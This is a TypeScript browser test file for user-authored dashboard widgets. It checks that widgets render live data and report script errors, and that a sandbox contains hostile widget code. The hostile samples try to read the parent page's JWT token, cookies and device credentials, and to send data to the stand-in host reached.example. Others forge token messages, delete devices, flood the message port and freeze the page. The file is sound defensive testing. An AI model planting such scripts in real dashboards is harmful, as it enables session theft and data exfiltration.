/** Widget types that users wrote: what they draw and do, and what a hostile author can't. */

import assert from 'node:assert/strict'
import test, { after } from 'node:test'
import type { Page } from 'playwright-core'
import { inspect } from './axe.ts'
import { main } from './page-parts.ts'
import { openAs, openStage, tenant, until } from './stage.ts'

const stage = await openStage({ after })
const bundle = await stage.call<{ alias: string }>('POST', '/api/widgetsBundle', { title: 'Own types' })
const device = await stage.makeDevice('Tank 7')
const send = (values: object) => stage.call('POST', `/api/plugins/telemetry/DEVICE/${device.id}/timeseries/ANY`, values)

interface OwnWidget {
  readonly title: string
  readonly html?: string
  readonly css?: string
  readonly script: string
  readonly resources?: readonly object[]
  readonly kind?: 'latest' | 'timeseries' | 'static'
  readonly config?: object
}

/** Creates a type for each widget, and a dashboard with them and the state `details`. */
async function dashboardOf(title: string, widgets: readonly OwnWidget[]): Promise<string> {
  const placed = await Promise.all(
    widgets.map(async ({ title: name, html = '', css = '', script, resources = [], kind = 'latest', config = {} }) => {
      const { alias } = await stage.call<{ alias: string }>('POST', '/api/widgetType', {
        bundleAlias: bundle.alias,
        name: `${title} ${name}`,
        descriptor: {
          type: kind,
          sizeX: 8,
          sizeY: 4,
          resources,
          templateHtml: html,
          templateCss: css,
          controllerScript: script,
          settingsSchema: '{}',
          dataKeySettingsSchema: '{}',
          defaultConfig: '{}',
        },
      })
      const keys = [{ name: 'level', type: 'timeseries', label: 'Level', units: '%', decimals: 1 }]
      const datasources = kind === 'static' ? [] : [{ type: 'entity', entityAliasId: 'a', dataKeys: keys }]
      return {
        isSystemType: false,
        bundleAlias: bundle.alias,
        typeAlias: alias,
        type: kind,
        title: name,
        config: { title: name, showTitle: true, datasources, ...config },
      }
    }),
  )
  const layout = placed.map((_, index) => ({
    sizeX: 8,
    sizeY: 5,
    col: (index % 3) * 8,
    row: Math.floor(index / 3) * 5,
  }))
  const gridSettings = { columns: 24 }
  const ids = placed.map((_, index) => `w${index}`)
  const { id } = await stage.call<{ id: { id: string } }>('POST', '/api/dashboard', {
    title,
    configuration: {
      widgets: Object.fromEntries(placed.map((widget, index) => [`w${index}`, widget])),
      states: {
        default: {
          name: title,
          root: true,
          layouts: { main: { widgets: Object.fromEntries(ids.map((one, i) => [one, layout[i]])), gridSettings } },
        },
        details: { name: 'Details', root: false, layouts: { main: { widgets: { w0: layout[0] }, gridSettings } } },
      },
      entityAliases: {
        a: { id: 'a', alias: 'Tank', filter: { type: 'singleEntity', resolveMultiple: false, singleEntity: device } },
      },
    },
  })
  return `/dashboards/${id.id}`
}

const card = (page: Page, name: string) => main(page).getByRole('article', { name, exact: true })
const inside = (page: Page, name: string) => card(page, name).frameLocator('iframe')

const tank: OwnWidget = {
  title: 'Tank',
  html: `
    <div class="tank" [class.is-full]="level > 80">
      <h3>{{ heading | uppercase }}</h3>
      <ul><li *ngFor="let one of rows; let i = index">{{ i + 1 }}. {{ one.label }} is {{ one.text }}</li></ul>
      <p *ngIf="level > 80">Nearly full</p>
      <canvas width="100" height="20"></canvas>
      <button id="details" (click)="openDetails($event)">Details</button>
      <button (click)="note()">Note</button>
      <output>{{ message || 'Nothing noted' }}</output>
      <span class="state"></span>
    </div>`,
  css: '.tank.is-full h3 { color: rgb(200, 0, 0); } canvas { display: block; }',
  script: `
    self.onInit = function () {
      var ctx = self.ctx
      ctx.$scope.heading = ctx.settings.heading + ' of ' + ctx.datasources[0].entityName
      ctx.$scope.openDetails = function ($event) {
        var action = ctx.actionsApi.getActionDescriptors('details')[0]
        ctx.actionsApi.handleWidgetAction($event, action, ctx.datasources[0].entity.id, ctx.datasources[0].name)
      }
      ctx.$scope.note = function () {
        var path = '/api/plugins/telemetry/DEVICE/' + ctx.datasources[0].entityId
        ctx.http.post(path + '/attributes/SERVER_SCOPE', { noted: ctx.$scope.level })
          .pipe(ctx.rxjs.switchMap(function () {
            return ctx.http.get(path + '/values/attributes/SERVER_SCOPE?keys=noted')
          }))
          .subscribe(function (list) {
            ctx.$scope.message = 'Noted ' + list[0].value
            ctx.detectChanges()
          })
      }
      $('.state', ctx.$container).text('state ' + ctx.stateController.getStateId()).addClass('known')
    }
    self.onDataUpdated = function () {
      var data = self.ctx.defaultSubscription.data
      self.ctx.$scope.level = data[0].data[0][1]
      self.ctx.$scope.rows = data.map(function (one) {
        var text = self.ctx.utils.formatValue(one.data[0][1], self.ctx.decimals, one.dataKey.units)
        return { label: one.dataKey.label, text: text }
      })
      var canvas = self.ctx.$container.find('canvas')[0]
      var pen = canvas.getContext('2d')
      pen.clearRect(0, 0, canvas.width, canvas.height)
      pen.fillStyle = 'rgb(0, 128, 255)'
      pen.fillRect(0, 0, self.ctx.$scope.level, canvas.height)
      self.ctx.detectChanges()
    }
    self.typeParameters = function () { return { maxDatasources: 1, singleEntity: true } }`,
  config: {
    settings: { heading: 'Level' },
    units: '%',
    decimals: 1,
    actions: {
      details: [{ id: 'd', name: 'Show', icon: 'info', type: 'openDashboardState', targetDashboardStateId: 'details' }],
    },
  },
}

test('a widget draws live data from its template and script, opens a state and saves; a failing one says where', () =>
  stage.play(
    async (page) => {
      await send({ level: 20 })
      const path = await dashboardOf('Own widgets', [
        tank,
        {
          title: 'Trend',
          kind: 'timeseries',
          html: '<p></p>',
          // Raw values: an average of both would be shown if they came within one interval.
          config: {
            useDashboardTimewindow: false,
            timewindow: { realtime: { timewindowMs: 600_000 }, aggregation: { type: 'NONE', limit: 200 } },
          },
          script: `
            self.onDataUpdated = function () {
              var points = self.ctx.data[0].data
              var window = self.ctx.timeWindow
              var isWithin = points.every(function (point) { return point[0] >= window.minTime && point[0] <= window.maxTime })
              self.ctx.$container.find('p').html('last <b>' + points[points.length - 1][1] + '</b>, within ' + isWithin)
            }`,
        },
        {
          title: 'Static',
          kind: 'static',
          html: '<p>{{ words }}</p>',
          script: 'self.onInit = function () { self.ctx.$scope.words = "no data" }',
        },
        { title: 'Broken', script: 'self.onInit = function () {\n  missing.member()\n}' },
        { title: 'Late', html: 'drawn', script: 'self.onDataUpdated = function () {\n\n  throw new Error("later")\n}' },
        { title: 'Unread', script: 'self.onInit = function ( {' },
      ])
      await openAs(page, tenant, path)
      await inside(page, 'Tank').getByRole('heading', { name: 'LEVEL OF TANK 7' }).waitFor()
      await inside(page, 'Tank').getByText('1. Level is 20 %').waitFor()
      await inside(page, 'Tank').getByText('state default').waitFor()
      await inside(page, 'Trend').getByText('last 20, within true').waitFor()
      await inside(page, 'Static').getByText('no data').waitFor()
      await card(page, 'Broken').getByText('Script failed at line 2, column 3. ReferenceError').waitFor()
      await card(page, 'Late').getByText('Script failed at line 3, column 9. Error: later').waitFor()
      await inside(page, 'Late').getByText('drawn').waitFor()
      await card(page, 'Unread').getByText('Script failed. SyntaxError').waitFor()

      await send({ level: 90 })
      await inside(page, 'Tank').getByText('1. Level is 90 %').waitFor()
      await inside(page, 'Tank').getByText('Nearly full').waitFor()
      await inside(page, 'Trend').getByText('last 90, within true').waitFor()
      const filled = () =>
        inside(page, 'Tank')
          .locator('canvas')
          .evaluate((canvas: HTMLCanvasElement) => [...(canvas.getContext('2d')?.getImageData(85, 5, 1, 1).data ?? [])])
      await until('the canvas shows the level', filled, (pixel) => pixel.join() === '0,128,255,255')

      await inside(page, 'Tank').getByRole('button', { name: 'Note' }).click()
      await inside(page, 'Tank').getByText('Noted 90').waitFor()
      const saved = await stage.call<{ value: unknown }[]>(
        'GET',
        `/api/plugins/telemetry/DEVICE/${device.id}/values/attributes/SERVER_SCOPE?keys=noted`,
      )
      assert.equal(saved[0]?.value, 90)
      assert.deepEqual(await inspect(page, 'own widgets'), [])

      await inside(page, 'Tank').getByRole('button', { name: 'Details' }).click()
      await page.waitForURL(/state=/)
      await inside(page, 'Tank').getByText('state details').waitFor()
      await card(page, 'Trend').waitFor({ state: 'detached' })
    },
    { bypassCSP: true },
  ))

/** Tries everything from within the frame, also through the page's port, and lists what it got. */
const reach = `
  var port = null
  var post = MessagePort.prototype.postMessage
  MessagePort.prototype.postMessage = function (message) { port = this; return post.call(this, message) }
  self.onInit = function () {
    var found = []
    var later = function (name, promise) {
      return promise.then(function (value) { if (value !== undefined) found.push(name) }, function () {})
    }
    var reach = {
      document: function () { return parent.document },
      token: function () { return parent.localStorage.getItem('jwt_token') },
      storage: function () { return localStorage || sessionStorage },
      cookie: function () { return (document.cookie = 'a=b') && document.cookie },
      neighbor: function () {
        for (var i = 0; i < parent.frames.length; i++)
          try { if (parent.frames[i] !== window && parent.frames[i].document) return true } catch (error) {}
      },
      opener: function () { return open('/reached') },
      top: function () { top.location = '/reached'; return top.document },
      request: function () { var one = new XMLHttpRequest(); one.open('GET', '/api/reached', false); one.send(); return true },
      socket: function () { return new WebSocket('wss://example.org').readyState === 1 },
      peer: function () { return new RTCPeerConnection() },
      worker: function () { return new Worker(URL.createObjectURL(new Blob(['0']))).foo },
      frame: function () {
        var one = document.createElement('iframe')
        one.src = '/reached'
        document.body.append(one)
        return one.contentDocument
      },
    }
    for (var name in reach) try { if (reach[name]()) found.push(name) } catch (error) {}
    var image = new Image()
    image.src = 'https://reached.example/?leak'
    document.body.insertAdjacentHTML('beforeend', '<form action="https://reached.example"><input name="a"></form><link rel="stylesheet" href="https://reached.example/a.css">')
    document.forms[0].submit()
    parent.postMessage(JSON.stringify({ type: 'reloadUserMessage', data: { token: 'a.b.c', refreshToken: 'a.b.c' } }), '*')
    self.ctx.updateWidgetParams()
    ;[null, 7, 'x', [], { kind: 'done', seq: 'x' }, { kind: 'asks', call: 1, method: '__proto__', args: [] },
      { kind: 'asks', call: 2, method: 'http', args: {} }, { kind: 'fault' }].forEach(function (one) { post.call(port, one) })
    var ctx = self.ctx
    var ask = function (observable) { return observable.toPromise() }
    Promise.all([
      later('fetch', fetch('/api/auth/user')),
      later('database', new Promise(function (resolve, reject) { var one = indexedDB.open('x'); one.onsuccess = resolve; one.onerror = reject })),
      later('credentials', ask(ctx.http.get('/api/device/' + ctx.datasources[0].entityId + '/credentials'))),
      later('other origin', ask(ctx.http.get('https://reached.example/api/device'))),
      later('users', ask(ctx.http.get('/api/users?pageSize=10&page=0'))),
      later('climbing', ask(ctx.http.get('/api/devices/../user/tokens'))),
      later('deleting', ask(ctx.http.delete('/api/device/' + ctx.datasources[0].entityId))),
      later('saving', ask(ctx.http.post('/api/device', { name: 'reached' }))),
      later('unknown', ask(ctx.http.get('/api/constructor'))),
    ]).then(function () { ctx.$container.text('reached: ' + found.join(', ') + '.') })
  }`

test('a hostile author reaches neither the page nor the network, the API or other widgets, and can’t freeze the page', () =>
  stage.play(
    async (page) => {
      const requests: string[] = []
      // What a policy refuses is a request too, but never finished.
      page.context().on('requestfinished', (request) => requests.push(request.url()))
      await send({ level: 20 })
      const path = await dashboardOf('Hostile widgets', [
        { title: 'Hostile', script: reach },
        tank,
        { title: 'Leaving', script: 'location.href = "https://reached.example/?" + self.ctx.datasources[0].entityId' },
        {
          title: 'Flooding',
          script: `
            var post = MessagePort.prototype.postMessage
            MessagePort.prototype.postMessage = function (message) {
              for (var i = 0; i < 2000; i++) post.call(this, { kind: 'done', seq: i })
            }`,
        },
        {
          title: 'Foreign file',
          html: 'drawn',
          resources: [{ url: 'https://reached.example/chart.js' }],
          script: '',
        },
      ])
      await openAs(page, tenant, path)
      await inside(page, 'Hostile').getByText('reached: .', { exact: true }).waitFor()
      await inside(page, 'Tank').getByText('1. Level is 20 %').waitFor()
      await card(page, 'Leaving').getByText('opened another address and was stopped').waitFor()
      await card(page, 'Flooding').getByText('sent too many messages and was stopped').waitFor()
      await card(page, 'Foreign file').getByText('Couldn’t load https://reached.example/chart.js').waitFor()
      await inside(page, 'Foreign file').getByText('drawn').waitFor()
      assert.equal(new URL(page.url()).pathname, path)

      // Code without end is stopped; the page answers all the time, and the widget can be started again.
      const endless = await dashboardOf('Endless widgets', [
        { title: 'Endless', script: 'self.onInit = function () { while (true) {} }' },
      ])
      await openAs(page, tenant, endless)
      await card(page, 'Endless').locator('iframe').waitFor()
      await card(page, 'Endless').getByText('doesn’t respond and was stopped').waitFor()
      await card(page, 'Endless').getByRole('button', { name: 'Restart' }).click()
      await card(page, 'Endless').locator('iframe').waitFor()
      await page.getByRole('link', { name: 'Devices' }).first().click()
      await card(page, 'Endless').waitFor({ state: 'detached' })
      assert.deepEqual(
        requests.filter((url) => url.includes('reached')),
        [],
      )
    },
    { isHostile: true },
  ))
